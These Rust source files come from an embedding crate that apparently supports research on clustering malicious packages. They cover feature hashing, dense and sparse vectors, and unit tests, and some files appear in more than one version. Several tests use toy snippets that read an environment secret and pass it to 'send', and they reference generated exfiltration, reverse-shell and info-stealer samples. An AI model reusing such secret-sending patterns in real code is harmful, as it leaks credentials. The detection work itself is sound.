            let bucket = (h % self.dim as u64) as usize;
            // Second, independent hash decides the sign, which keeps
            // colliding features from always reinforcing each other.
            let sign = if fnv1a_seeded(feature.text.as_bytes(), 0x9e3779b97f4a7c15) & 1 == 0 {
                1.0
            } else {
                -1.0
            };
            buf.scratch[bucket] += sign * feature.weight;
            buf.touched.push(bucket as u32);
        }
        buf.touched.sort_unstable();
        buf.touched.dedup();
        // Ascending-index sum of squares: the same summation order the
        // dense `Embedding::norm` uses (zeros contribute nothing).
        // The `+ 0.0` canonicalizes the empty sum's `-0.0` to `+0.0`,
        // matching the dense norm of an all-zero vector (see
        // `vector::slice_norm`).
        buf.touched
            .iter()
            .map(|&b| {
                let v = buf.scratch[b as usize];
                v * v
            })
            .sum::<f32>()
            .sqrt()
            + 0.0
    }
}

/// Euclidean norm of sparse values in storage (= ascending index) order,
/// with the zero sign canonicalized (see `vector::slice_norm`).
fn values_norm(values: &[f32]) -> f32 {
    values.iter().map(|v| v * v).sum::<f32>().sqrt() + 0.0
}

/// Reusable accumulation scratch for [`Embedder::embed_into`] /
/// [`Embedder::embed_sparse_into`]: a dense bucket array (kept all-zero
/// between calls, so reuse costs only the touched entries) plus the
/// touched-bucket list.
#[derive(Debug, Default)]
pub struct EmbedBuffer {
    scratch: Vec<f32>,
    touched: Vec<u32>,
}

impl EmbedBuffer {
    /// An empty buffer; it sizes itself to the embedder on first use.
    pub fn new() -> Self {
        EmbedBuffer::default()
    }

    /// Zeroes the touched scratch entries, restoring the all-zero
    /// invariant without an O(dim) pass.
    fn reset_touched(&mut self) {
        for &bucket in &self.touched {
            self.scratch[bucket as usize] = 0.0;
        }
        self.touched.clear();
    }
}

impl Default for Embedder {
    /// The paper's 3072-dimensional configuration.
    fn default() -> Self {
        Embedder::paper()
    }
}

/// 64-bit FNV-1a hash.
pub(crate) fn fnv1a(bytes: &[u8]) -> u64 {
    fnv1a_seeded(bytes, 0xcbf29ce484222325)
}

pub(crate) fn fnv1a_seeded(bytes: &[u8], seed: u64) -> u64 {
    let mut hash = seed;
    for &b in bytes {
        hash ^= u64::from(b);
        hash = hash.wrapping_mul(0x100000001b3);
    }
    hash
}

#[cfg(test)]
mod tests {
    use super::*;
    use minilang::gen::{generate, mutate, Behavior, Mutation};
    use minilang::parse;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    fn module(src: &str) -> Module {
        parse(src).unwrap()
    }

    #[test]
    fn embedding_is_deterministic() {
        let e = Embedder::new(256);
        let m = module("import os\nx = os.getenv('K')\n");
        assert_eq!(e.embed(&m), e.embed(&m));
    }

    #[test]
    fn self_cosine_is_one() {
        let e = Embedder::new(256);
        let v = e.embed(&module("x = 1\ny = x + 2\n"));
        assert!((v.cosine(&v) - 1.0).abs() < 1e-5);
    }

    #[test]
    fn renaming_is_invisible() {
        let e = Embedder::new(512);
        let a = e.embed(&module("secret = os.getenv('T')\nsend(secret)\n"));
        let b = e.embed(&module("loot = os.getenv('T')\nsend(loot)\n"));
        assert!((a.cosine(&b) - 1.0).abs() < 1e-5, "{}", a.cosine(&b));
    }

    #[test]
    fn mutated_malware_stays_close_other_lineages_stay_far() {
        let mut rng = StdRng::seed_from_u64(42);
        let e = Embedder::new(1024);
        let base = generate(Behavior::ExfilAws, &mut rng);
        let mutated = mutate(&base, Mutation::SwapStringLiteral, &mut rng);
        let other_lineage = generate(Behavior::ExfilAws, &mut rng);
        let vb = e.embed(&base);
        let vm = e.embed(&mutated);
        let vo = e.embed(&other_lineage);
        let near = vb.cosine(&vm);
        let far = vb.cosine(&vo);
        assert!(near > 0.95, "mutation similarity {near}");
        assert!(
            near > far + 0.05,
            "a mutated re-release ({near}) must stay closer than an \
             independent lineage of the same behaviour ({far})"
        );
    }

    #[test]
    fn lineage_members_cluster_tighter_than_cross_behavior() {
        let mut rng = StdRng::seed_from_u64(7);
        let e = Embedder::new(1024);
        let base = generate(Behavior::ReverseShell, &mut rng);
        let member = mutate(&base, Mutation::InsertBenignFunction, &mut rng);
        let cross = generate(Behavior::InfoStealer, &mut rng);
        let vb = e.embed(&base);
        assert!(
            vb.cosine(&e.embed(&member)) > vb.cosine(&e.embed(&cross)),
            "lineage cohesion failed"
        );
    }

    #[test]
    fn paper_dim_is_3072() {
        assert_eq!(Embedder::paper().dim(), 3072);
        assert_eq!(Embedder::default().dim(), PAPER_DIM);
    }

    #[test]
    #[should_panic(expected = "positive")]
    fn zero_dim_panics() {
        Embedder::new(0);
    }

    #[test]
    fn empty_module_embeds_to_zero_vector() {
        let e = Embedder::new(64);
        let v = e.embed(&module(""));
        assert_eq!(v.norm(), 0.0);
        // Cosine with anything is defined as 0 for the zero vector.
        let w = e.embed(&module("x = 1\n"));
        assert_eq!(v.cosine(&w), 0.0);
    }
}
