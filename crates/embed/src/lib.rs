//! Deterministic code embeddings over PyLite ASTs.
//!
//! The paper's similarity pipeline (§III-A) converts each package's source
//! code into an AST, embeds the AST with OpenAI's `text-embedding-3-large`
//! (3072 dimensions), and clusters the vectors with K-Means. An external
//! embedding API is a data/hardware gate for a reproduction, so this crate
//! substitutes a *feature-hashing* embedder with the one property the
//! pipeline needs: **similar code maps to nearby vectors**, robust to the
//! identifier renames and small edits attackers apply between release
//! attempts.
//!
//! Features are extracted from the *canonicalized* AST (see
//! [`minilang::canon`]): token n-grams of the canonical text, root-to-node
//! AST *kind paths*, and the imported module set (weighted highest — which
//! APIs the code touches is the strongest behavioural signal). Each
//! feature is hashed into one of `dim` buckets with a signed hash (the
//! classic hashing trick), and the vector is L2-normalized so cosine
//! similarity is a dot product.
//!
//! # Examples
//!
//! ```
//! use embed::Embedder;
//! use minilang::parse;
//!
//! let embedder = Embedder::new(512);
//! let a = embedder.embed(&parse("import os\nk = os.getenv('A')\n")?);
//! let b = embedder.embed(&parse("import os\nv = os.getenv('A')\n")?);
//! assert!(a.cosine(&b) > 0.95, "renamed variable stays similar");
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod features;
pub mod vector;

pub use features::extract_features;
pub use vector::Embedding;

use minilang::Module;

/// The embedding dimensionality the paper reports for
/// `text-embedding-3-large`.
pub const PAPER_DIM: usize = 3072;

/// A deterministic feature-hashing embedder.
#[derive(Debug, Clone)]
pub struct Embedder {
    dim: usize,
}

impl Embedder {
    /// Creates an embedder producing `dim`-dimensional vectors.
    ///
    /// # Panics
    ///
    /// Panics if `dim == 0`.
    pub fn new(dim: usize) -> Self {
        assert!(dim > 0, "embedding dimension must be positive");
        Embedder { dim }
    }

    /// An embedder with the paper's 3072 dimensions.
    pub fn paper() -> Self {
        Embedder::new(PAPER_DIM)
    }

    /// Output dimensionality.
    pub fn dim(&self) -> usize {
        self.dim
    }

    /// Embeds a module.
    ///
    /// The module is canonicalized first, so alpha-renamed programs embed
    /// identically.
    pub fn embed(&self, module: &Module) -> Embedding {
        let features = extract_features(module);
        obs::counter_add("embed.vectors", 1);
        obs::counter_add("embed.features", features.len() as u64);
        let mut values = vec![0.0f32; self.dim];
        for feature in &features {
            let h = fnv1a(feature.text.as_bytes());
            let bucket = (h % self.dim as u64) as usize;
            // Second, independent hash decides the sign, which keeps
            // colliding features from always reinforcing each other.
            let sign = if fnv1a_seeded(feature.text.as_bytes(), 0x9e3779b97f4a7c15) & 1 == 0 {
                1.0
            } else {
                -1.0
            };
            values[bucket] += sign * feature.weight;
        }
        Embedding::from_raw(values).normalized()
    }
}

impl Default for Embedder {
    /// The paper's 3072-dimensional configuration.
    fn default() -> Self {
        Embedder::paper()
    }
}

/// 64-bit FNV-1a hash.
pub(crate) fn fnv1a(bytes: &[u8]) -> u64 {
    fnv1a_seeded(bytes, 0xcbf29ce484222325)
}

pub(crate) fn fnv1a_seeded(bytes: &[u8], seed: u64) -> u64 {
    let mut hash = seed;
    for &b in bytes {
        hash ^= u64::from(b);
        hash = hash.wrapping_mul(0x100000001b3);
    }
    hash
}

#[cfg(test)]
mod tests {
    use super::*;
    use minilang::gen::{generate, mutate, Behavior, Mutation};
    use minilang::parse;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    fn module(src: &str) -> Module {
        parse(src).unwrap()
    }

    #[test]
    fn embedding_is_deterministic() {
        let e = Embedder::new(256);
        let m = module("import os\nx = os.getenv('K')\n");
        assert_eq!(e.embed(&m), e.embed(&m));
    }

    #[test]
    fn self_cosine_is_one() {
        let e = Embedder::new(256);
        let v = e.embed(&module("x = 1\ny = x + 2\n"));
        assert!((v.cosine(&v) - 1.0).abs() < 1e-5);
    }

    #[test]
    fn renaming_is_invisible() {
        let e = Embedder::new(512);
        let a = e.embed(&module("secret = os.getenv('T')\nsend(secret)\n"));
        let b = e.embed(&module("loot = os.getenv('T')\nsend(loot)\n"));
        assert!((a.cosine(&b) - 1.0).abs() < 1e-5, "{}", a.cosine(&b));
    }

    #[test]
    fn mutated_malware_stays_close_other_lineages_stay_far() {
        let mut rng = StdRng::seed_from_u64(42);
        let e = Embedder::new(1024);
        let base = generate(Behavior::ExfilAws, &mut rng);
        let mutated = mutate(&base, Mutation::SwapStringLiteral, &mut rng);
        let other_lineage = generate(Behavior::ExfilAws, &mut rng);
        let vb = e.embed(&base);
        let vm = e.embed(&mutated);
        let vo = e.embed(&other_lineage);
        let near = vb.cosine(&vm);
        let far = vb.cosine(&vo);
        assert!(near > 0.95, "mutation similarity {near}");
        assert!(
            near > far + 0.05,
            "a mutated re-release ({near}) must stay closer than an \
             independent lineage of the same behaviour ({far})"
        );
    }

    #[test]
    fn lineage_members_cluster_tighter_than_cross_behavior() {
        let mut rng = StdRng::seed_from_u64(7);
        let e = Embedder::new(1024);
        let base = generate(Behavior::ReverseShell, &mut rng);
        let member = mutate(&base, Mutation::InsertBenignFunction, &mut rng);
        let cross = generate(Behavior::InfoStealer, &mut rng);
        let vb = e.embed(&base);
        assert!(
            vb.cosine(&e.embed(&member)) > vb.cosine(&e.embed(&cross)),
            "lineage cohesion failed"
        );
    }

    #[test]
    fn paper_dim_is_3072() {
        assert_eq!(Embedder::paper().dim(), 3072);
        assert_eq!(Embedder::default().dim(), PAPER_DIM);
    }

    #[test]
    #[should_panic(expected = "positive")]
    fn zero_dim_panics() {
        Embedder::new(0);
    }

    #[test]
    fn empty_module_embeds_to_zero_vector() {
        let e = Embedder::new(64);
        let v = e.embed(&module(""));
        assert_eq!(v.norm(), 0.0);
        // Cosine with anything is defined as 0 for the zero vector.
        let w = e.embed(&module("x = 1\n"));
        assert_eq!(v.cosine(&w), 0.0);
    }
}
