//! Dense embedding vectors.

use std::fmt;

/// A dense embedding vector.
///
/// Vectors produced by [`crate::Embedder`] are L2-normalized, so
/// [`Embedding::cosine`] reduces to a dot product; the methods here also
/// handle unnormalized and zero vectors gracefully because K-Means
/// centroids are running means, not unit vectors.
///
/// The Euclidean norm is computed **once at construction** and cached:
/// the refinement inner loop of the similarity pipeline calls
/// [`Embedding::cosine`] / [`Embedding::dot_normalized`] O(|cluster|²)
/// times per vector, and recomputing two O(dim) norm passes per call was
/// pure waste (ISSUE 6 satellite). Mutating methods
/// ([`Embedding::add_assign`], [`Embedding::scale_down`]) refresh the
/// cache.
#[derive(Debug, Clone, PartialEq)]
pub struct Embedding {
    values: Vec<f32>,
    /// Cached Euclidean norm of `values`.
    norm: f32,
}

/// Euclidean norm of a slice, summed in ascending index order — the
/// workspace-wide canonical summation order (see the determinism notes
/// in `cluster`). The trailing `+ 0.0` canonicalizes the sign of zero:
/// `f32::sum` of an *empty* iterator is `-0.0`, which would make sparse
/// (no stored terms) and dense (≥ 1 zero term) norms differ in their
/// zero bit; `x + 0.0` maps `-0.0` to `+0.0` and is exact everywhere
/// else.
pub(crate) fn slice_norm(values: &[f32]) -> f32 {
    values.iter().map(|v| v * v).sum::<f32>().sqrt() + 0.0
}

impl Embedding {
    /// Wraps raw values, caching their norm.
    pub fn from_raw(values: Vec<f32>) -> Self {
        let norm = slice_norm(&values);
        Embedding { values, norm }
    }

    /// Wraps raw values whose norm the caller already knows.
    ///
    /// Used by the sparse embedding path, which computes the norm during
    /// accumulation; the value must equal `slice_norm(&values)` bitwise
    /// (debug-asserted).
    pub(crate) fn from_raw_with_norm(values: Vec<f32>, norm: f32) -> Self {
        debug_assert_eq!(
            norm.to_bits(),
            slice_norm(&values).to_bits(),
            "cached norm must match the values"
        );
        Embedding { values, norm }
    }

    /// A zero vector of dimension `dim`.
    pub fn zeros(dim: usize) -> Self {
        Embedding {
            values: vec![0.0; dim],
            norm: 0.0,
        }
    }

    /// The components.
    pub fn as_slice(&self) -> &[f32] {
        &self.values
    }

    /// Dimensionality.
    pub fn dim(&self) -> usize {
        self.values.len()
    }

    /// Euclidean norm (cached at construction).
    pub fn norm(&self) -> f32 {
        self.norm
    }

    /// Returns an L2-normalized copy; the zero vector stays zero.
    pub fn normalized(&self) -> Embedding {
        let n = self.norm();
        if n == 0.0 {
            return self.clone();
        }
        Embedding::from_raw(self.values.iter().map(|v| v / n).collect())
    }

    /// Dot product.
    ///
    /// # Panics
    ///
    /// Panics if dimensions differ.
    pub fn dot(&self, other: &Embedding) -> f32 {
        assert_eq!(self.dim(), other.dim(), "dimension mismatch");
        self.values
            .iter()
            .zip(&other.values)
            .map(|(a, b)| a * b)
            .sum()
    }

    /// Cosine similarity in `[-1, 1]`; zero if either vector is zero.
    ///
    /// Uses the cached norms — no O(dim) norm passes.
    ///
    /// # Panics
    ///
    /// Panics if dimensions differ.
    pub fn cosine(&self, other: &Embedding) -> f32 {
        let denom = self.norm * other.norm;
        if denom == 0.0 {
            return 0.0;
        }
        (self.dot(other) / denom).clamp(-1.0, 1.0)
    }

    /// Cosine similarity for vectors already known to be L2-normalized
    /// (every [`crate::Embedder`] output is): one dot product, skipping
    /// even the cached-norm division [`Embedding::cosine`] would do. This
    /// is the fast path of the pairwise refinement loop, where each
    /// vector is compared against every cluster sibling.
    ///
    /// The zero vector is accepted (its dot products are 0, matching
    /// [`Embedding::cosine`]); other unnormalized inputs are a caller
    /// bug, caught by a debug assertion.
    ///
    /// # Panics
    ///
    /// Panics if dimensions differ.
    pub fn dot_normalized(&self, other: &Embedding) -> f32 {
        debug_assert!(
            {
                let (a, b) = (self.norm(), other.norm());
                (a == 0.0 || (a - 1.0).abs() < 1e-3) && (b == 0.0 || (b - 1.0).abs() < 1e-3)
            },
            "dot_normalized requires L2-normalized inputs"
        );
        self.dot(other).clamp(-1.0, 1.0)
    }

    /// Squared Euclidean distance (the K-Means objective term).
    ///
    /// # Panics
    ///
    /// Panics if dimensions differ.
    pub fn distance_sq(&self, other: &Embedding) -> f32 {
        assert_eq!(self.dim(), other.dim(), "dimension mismatch");
        self.values
            .iter()
            .zip(&other.values)
            .map(|(a, b)| {
                let d = a - b;
                d * d
            })
            .sum()
    }

    /// Adds `other` into `self` component-wise (centroid accumulation).
    ///
    /// # Panics
    ///
    /// Panics if dimensions differ.
    pub fn add_assign(&mut self, other: &Embedding) {
        assert_eq!(self.dim(), other.dim(), "dimension mismatch");
        for (a, b) in self.values.iter_mut().zip(&other.values) {
            *a += b;
        }
        self.norm = slice_norm(&self.values);
    }

    /// Divides every component by `n` (centroid finalization).
    ///
    /// # Panics
    ///
    /// Panics if `n == 0.0`.
    pub fn scale_down(&mut self, n: f32) {
        assert!(n != 0.0, "cannot divide by zero");
        for v in &mut self.values {
            *v /= n;
        }
        self.norm = slice_norm(&self.values);
    }
}

impl fmt::Display for Embedding {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "Embedding(dim={}, norm={:.4})", self.dim(), self.norm())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn vec2(a: f32, b: f32) -> Embedding {
        Embedding::from_raw(vec![a, b])
    }

    #[test]
    fn norm_and_normalize() {
        let v = vec2(3.0, 4.0);
        assert!((v.norm() - 5.0).abs() < 1e-6);
        let u = v.normalized();
        assert!((u.norm() - 1.0).abs() < 1e-6);
    }

    #[test]
    fn zero_vector_normalizes_to_itself() {
        let z = Embedding::zeros(4);
        assert_eq!(z.normalized(), z);
        assert_eq!(z.norm(), 0.0);
    }

    #[test]
    fn cosine_bounds_and_orthogonality() {
        let x = vec2(1.0, 0.0);
        let y = vec2(0.0, 1.0);
        let neg = vec2(-1.0, 0.0);
        assert!((x.cosine(&x) - 1.0).abs() < 1e-6);
        assert!(x.cosine(&y).abs() < 1e-6);
        assert!((x.cosine(&neg) + 1.0).abs() < 1e-6);
    }

    #[test]
    fn cosine_with_zero_is_zero() {
        let x = vec2(1.0, 2.0);
        let z = Embedding::zeros(2);
        assert_eq!(x.cosine(&z), 0.0);
    }

    #[test]
    fn dot_normalized_matches_cosine_on_unit_vectors() {
        let a = vec2(3.0, 4.0).normalized();
        let b = vec2(-1.0, 2.0).normalized();
        assert!((a.dot_normalized(&b) - a.cosine(&b)).abs() < 1e-6);
        assert!((a.dot_normalized(&a) - 1.0).abs() < 1e-6);
        let z = Embedding::zeros(2);
        assert_eq!(a.dot_normalized(&z), 0.0);
    }

    #[test]
    fn distance_sq() {
        let a = vec2(1.0, 2.0);
        let b = vec2(4.0, 6.0);
        assert!((a.distance_sq(&b) - 25.0).abs() < 1e-6);
        assert_eq!(a.distance_sq(&a), 0.0);
    }

    #[test]
    fn centroid_accumulation() {
        let mut c = Embedding::zeros(2);
        c.add_assign(&vec2(2.0, 4.0));
        c.add_assign(&vec2(4.0, 8.0));
        c.scale_down(2.0);
        assert_eq!(c.as_slice(), &[3.0, 6.0]);
    }

    #[test]
    fn mutation_refreshes_the_cached_norm() {
        let mut v = vec2(3.0, 4.0);
        v.add_assign(&vec2(0.0, 0.0));
        assert!((v.norm() - 5.0).abs() < 1e-6);
        v.scale_down(5.0);
        assert!((v.norm() - 1.0).abs() < 1e-6);
        assert_eq!(v.norm().to_bits(), slice_norm(v.as_slice()).to_bits());
    }

    #[test]
    #[should_panic(expected = "dimension mismatch")]
    fn mismatched_dot_panics() {
        vec2(1.0, 2.0).dot(&Embedding::zeros(3));
    }

    #[test]
    fn display_mentions_dim() {
        assert!(vec2(1.0, 0.0).to_string().contains("dim=2"));
    }
}
