//! Dense embedding vectors.

use std::fmt;

/// A dense embedding vector.
///
/// Vectors produced by [`crate::Embedder`] are L2-normalized, so
/// [`Embedding::cosine`] reduces to a dot product; the methods here also
/// handle unnormalized and zero vectors gracefully because K-Means
/// centroids are running means, not unit vectors.
#[derive(Debug, Clone, PartialEq)]
pub struct Embedding {
    values: Vec<f32>,
}

impl Embedding {
    /// Wraps raw values.
    pub fn from_raw(values: Vec<f32>) -> Self {
        Embedding { values }
    }

    /// A zero vector of dimension `dim`.
    pub fn zeros(dim: usize) -> Self {
        Embedding {
            values: vec![0.0; dim],
        }
    }

    /// The components.
    pub fn as_slice(&self) -> &[f32] {
        &self.values
    }

    /// Dimensionality.
    pub fn dim(&self) -> usize {
        self.values.len()
    }

    /// Euclidean norm.
    pub fn norm(&self) -> f32 {
        self.values.iter().map(|v| v * v).sum::<f32>().sqrt()
    }

    /// Returns an L2-normalized copy; the zero vector stays zero.
    pub fn normalized(&self) -> Embedding {
        let n = self.norm();
        if n == 0.0 {
            return self.clone();
        }
        Embedding {
            values: self.values.iter().map(|v| v / n).collect(),
        }
    }

    /// Dot product.
    ///
    /// # Panics
    ///
    /// Panics if dimensions differ.
    pub fn dot(&self, other: &Embedding) -> f32 {
        assert_eq!(self.dim(), other.dim(), "dimension mismatch");
        self.values
            .iter()
            .zip(&other.values)
            .map(|(a, b)| a * b)
            .sum()
    }

    /// Cosine similarity in `[-1, 1]`; zero if either vector is zero.
    ///
    /// # Panics
    ///
    /// Panics if dimensions differ.
    pub fn cosine(&self, other: &Embedding) -> f32 {
        let denom = self.norm() * other.norm();
        if denom == 0.0 {
            return 0.0;
        }
        (self.dot(other) / denom).clamp(-1.0, 1.0)
    }

    /// Cosine similarity for vectors already known to be L2-normalized
    /// (every [`crate::Embedder`] output is): one dot product, skipping
    /// the two O(dim) norm passes [`Embedding::cosine`] would redo. This
    /// is the fast path of the pairwise refinement loop, where each
    /// vector is compared against every cluster sibling.
    ///
    /// The zero vector is accepted (its dot products are 0, matching
    /// [`Embedding::cosine`]); other unnormalized inputs are a caller
    /// bug, caught by a debug assertion.
    ///
    /// # Panics
    ///
    /// Panics if dimensions differ.
    pub fn dot_normalized(&self, other: &Embedding) -> f32 {
        debug_assert!(
            {
                let (a, b) = (self.norm(), other.norm());
                (a == 0.0 || (a - 1.0).abs() < 1e-3) && (b == 0.0 || (b - 1.0).abs() < 1e-3)
            },
            "dot_normalized requires L2-normalized inputs"
        );
        self.dot(other).clamp(-1.0, 1.0)
    }

    /// Squared Euclidean distance (the K-Means objective term).
    ///
    /// # Panics
    ///
    /// Panics if dimensions differ.
    pub fn distance_sq(&self, other: &Embedding) -> f32 {
        assert_eq!(self.dim(), other.dim(), "dimension mismatch");
        self.values
            .iter()
            .zip(&other.values)
            .map(|(a, b)| {
                let d = a - b;
                d * d
            })
            .sum()
    }

    /// Adds `other` into `self` component-wise (centroid accumulation).
    ///
    /// # Panics
    ///
    /// Panics if dimensions differ.
    pub fn add_assign(&mut self, other: &Embedding) {
        assert_eq!(self.dim(), other.dim(), "dimension mismatch");
        for (a, b) in self.values.iter_mut().zip(&other.values) {
            *a += b;
        }
    }

    /// Divides every component by `n` (centroid finalization).
    ///
    /// # Panics
    ///
    /// Panics if `n == 0.0`.
    pub fn scale_down(&mut self, n: f32) {
        assert!(n != 0.0, "cannot divide by zero");
        for v in &mut self.values {
            *v /= n;
        }
    }
}

impl fmt::Display for Embedding {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "Embedding(dim={}, norm={:.4})", self.dim(), self.norm())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn vec2(a: f32, b: f32) -> Embedding {
        Embedding::from_raw(vec![a, b])
    }

    #[test]
    fn norm_and_normalize() {
        let v = vec2(3.0, 4.0);
        assert!((v.norm() - 5.0).abs() < 1e-6);
        let u = v.normalized();
        assert!((u.norm() - 1.0).abs() < 1e-6);
    }

    #[test]
    fn zero_vector_normalizes_to_itself() {
        let z = Embedding::zeros(4);
        assert_eq!(z.normalized(), z);
        assert_eq!(z.norm(), 0.0);
    }

    #[test]
    fn cosine_bounds_and_orthogonality() {
        let x = vec2(1.0, 0.0);
        let y = vec2(0.0, 1.0);
        let neg = vec2(-1.0, 0.0);
        assert!((x.cosine(&x) - 1.0).abs() < 1e-6);
        assert!(x.cosine(&y).abs() < 1e-6);
        assert!((x.cosine(&neg) + 1.0).abs() < 1e-6);
    }

    #[test]
    fn cosine_with_zero_is_zero() {
        let x = vec2(1.0, 2.0);
        let z = Embedding::zeros(2);
        assert_eq!(x.cosine(&z), 0.0);
    }

    #[test]
    fn dot_normalized_matches_cosine_on_unit_vectors() {
        let a = vec2(3.0, 4.0).normalized();
        let b = vec2(-1.0, 2.0).normalized();
        assert!((a.dot_normalized(&b) - a.cosine(&b)).abs() < 1e-6);
        assert!((a.dot_normalized(&a) - 1.0).abs() < 1e-6);
        let z = Embedding::zeros(2);
        assert_eq!(a.dot_normalized(&z), 0.0);
    }

    #[test]
    fn distance_sq() {
        let a = vec2(1.0, 2.0);
        let b = vec2(4.0, 6.0);
        assert!((a.distance_sq(&b) - 25.0).abs() < 1e-6);
        assert_eq!(a.distance_sq(&a), 0.0);
    }

    #[test]
    fn centroid_accumulation() {
        let mut c = Embedding::zeros(2);
        c.add_assign(&vec2(2.0, 4.0));
        c.add_assign(&vec2(4.0, 8.0));
        c.scale_down(2.0);
        assert_eq!(c.as_slice(), &[3.0, 6.0]);
    }

    #[test]
    #[should_panic(expected = "dimension mismatch")]
    fn mismatched_dot_panics() {
        vec2(1.0, 2.0).dot(&Embedding::zeros(3));
    }

    #[test]
    fn display_mentions_dim() {
        assert!(vec2(1.0, 0.0).to_string().contains("dim=2"));
    }
}
