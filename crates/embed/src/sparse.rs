//! Sparse embedding vectors and their dot kernels.
//!
//! A feature-hashed module touches a few hundred of the 3072 buckets, so
//! the dense [`crate::Embedding`] is overwhelmingly zeros — every dense
//! dot product in the similarity pipeline streamed ~12 KB of mostly-zero
//! memory per vector. [`SparseEmbedding`] stores only the `(index,
//! value)` pairs, sorted by index, with the norm cached, and provides
//! the sparse·dense and sparse·sparse dot kernels the pipeline's
//! refinement and assignment passes run on.
//!
//! # Bitwise equivalence with the dense path
//!
//! Every kernel here accumulates in **ascending index order**, exactly
//! like the dense sequential dot, and only skips terms in which at least
//! one factor is zero. Skipping a `±0.0` term can only change the sign
//! of an all-zero partial sum, never its value, so sparse results are
//! bitwise identical to the dense kernels on every input the pipeline
//! produces — the similarity pipeline's output does not change when it
//! switches to these kernels, and the embed property suite asserts the
//! equality bit-for-bit.

use crate::vector::Embedding;

/// A sparse embedding: sorted `(index, value)` pairs plus the cached
/// Euclidean norm.
///
/// Produced by [`crate::Embedder::embed_sparse`]; densify on demand with
/// [`SparseEmbedding::to_dense`].
#[derive(Debug, Clone, PartialEq)]
pub struct SparseEmbedding {
    dim: usize,
    indices: Vec<u32>,
    values: Vec<f32>,
    norm: f32,
}

impl SparseEmbedding {
    /// Builds from parallel index/value arrays.
    ///
    /// # Panics
    ///
    /// Panics if the arrays differ in length, indices are unsorted,
    /// duplicated, or out of range for `dim`.
    pub fn from_pairs(dim: usize, indices: Vec<u32>, values: Vec<f32>) -> Self {
        assert_eq!(indices.len(), values.len(), "index/value length mismatch");
        assert!(
            indices.windows(2).all(|w| w[0] < w[1]),
            "indices must be strictly ascending"
        );
        if let Some(&last) = indices.last() {
            assert!((last as usize) < dim, "index {last} out of range for dim {dim}");
        }
        // `+ 0.0` canonicalizes the empty sum's `-0.0` (see
        // `vector::slice_norm`).
        let norm = values.iter().map(|v| v * v).sum::<f32>().sqrt() + 0.0;
        SparseEmbedding {
            dim,
            indices,
            values,
            norm,
        }
    }

    /// Builds from parts whose norm the caller computed during
    /// accumulation (debug-asserted against a recomputation).
    pub(crate) fn from_parts_with_norm(
        dim: usize,
        indices: Vec<u32>,
        values: Vec<f32>,
        norm: f32,
    ) -> Self {
        debug_assert_eq!(
            norm.to_bits(),
            (values.iter().map(|v| v * v).sum::<f32>().sqrt() + 0.0).to_bits(),
            "cached norm must match the values"
        );
        debug_assert!(indices.windows(2).all(|w| w[0] < w[1]));
        SparseEmbedding {
            dim,
            indices,
            values,
            norm,
        }
    }

    /// Dimensionality of the (conceptual) dense vector.
    pub fn dim(&self) -> usize {
        self.dim
    }

    /// Number of stored components.
    pub fn nnz(&self) -> usize {
        self.indices.len()
    }

    /// The sorted component indices.
    pub fn indices(&self) -> &[u32] {
        &self.indices
    }

    /// The component values, parallel to [`SparseEmbedding::indices`].
    pub fn values(&self) -> &[f32] {
        &self.values
    }

    /// Euclidean norm (cached at construction).
    pub fn norm(&self) -> f32 {
        self.norm
    }

    /// Densifies into an [`Embedding`], bitwise identical to the dense
    /// embedder output for the same module.
    pub fn to_dense(&self) -> Embedding {
        let mut values = vec![0.0f32; self.dim];
        for (&i, &v) in self.indices.iter().zip(&self.values) {
            values[i as usize] = v;
        }
        Embedding::from_raw_with_norm(values, self.norm)
    }

    /// Sparse·dense dot product, bitwise identical to the dense
    /// sequential dot of the densified vector with `dense`.
    ///
    /// # Panics
    ///
    /// Panics if `dense.len() != self.dim()`.
    pub fn dot_dense(&self, dense: &[f32]) -> f32 {
        assert_eq!(dense.len(), self.dim, "dimension mismatch");
        self.indices
            .iter()
            .zip(&self.values)
            .map(|(&i, &v)| v * dense[i as usize])
            .sum()
    }

    /// Sparse·sparse dot product (merge walk over the two sorted index
    /// lists), bitwise identical to the dense sequential dot.
    ///
    /// # Panics
    ///
    /// Panics if dimensions differ.
    pub fn dot(&self, other: &SparseEmbedding) -> f32 {
        assert_eq!(self.dim, other.dim, "dimension mismatch");
        let (ai, av) = (&self.indices, &self.values);
        let (bi, bv) = (&other.indices, &other.values);
        let mut sum = 0.0f32;
        let (mut x, mut y) = (0usize, 0usize);
        while x < ai.len() && y < bi.len() {
            let (ia, ib) = (ai[x], bi[y]);
            if ia == ib {
                sum += av[x] * bv[y];
                x += 1;
                y += 1;
            } else if ia < ib {
                x += 1;
            } else {
                y += 1;
            }
        }
        sum
    }

    /// Cosine similarity via the cached norms; zero if either vector is
    /// zero.
    ///
    /// # Panics
    ///
    /// Panics if dimensions differ.
    pub fn cosine(&self, other: &SparseEmbedding) -> f32 {
        let denom = self.norm * other.norm;
        if denom == 0.0 {
            return 0.0;
        }
        (self.dot(other) / denom).clamp(-1.0, 1.0)
    }

    /// Cosine for vectors already known to be L2-normalized — the sparse
    /// counterpart of [`Embedding::dot_normalized`], bitwise identical
    /// to it on densified inputs.
    ///
    /// # Panics
    ///
    /// Panics if dimensions differ.
    pub fn dot_normalized(&self, other: &SparseEmbedding) -> f32 {
        debug_assert!(
            {
                let (a, b) = (self.norm, other.norm);
                (a == 0.0 || (a - 1.0).abs() < 1e-3) && (b == 0.0 || (b - 1.0).abs() < 1e-3)
            },
            "dot_normalized requires L2-normalized inputs"
        );
        self.dot(other).clamp(-1.0, 1.0)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sparse(dim: usize, pairs: &[(u32, f32)]) -> SparseEmbedding {
        SparseEmbedding::from_pairs(
            dim,
            pairs.iter().map(|&(i, _)| i).collect(),
            pairs.iter().map(|&(_, v)| v).collect(),
        )
    }

    #[test]
    fn to_dense_round_trip() {
        let s = sparse(6, &[(1, 2.0), (4, -3.0)]);
        let d = s.to_dense();
        assert_eq!(d.as_slice(), &[0.0, 2.0, 0.0, 0.0, -3.0, 0.0]);
        assert_eq!(d.norm().to_bits(), s.norm().to_bits());
    }

    #[test]
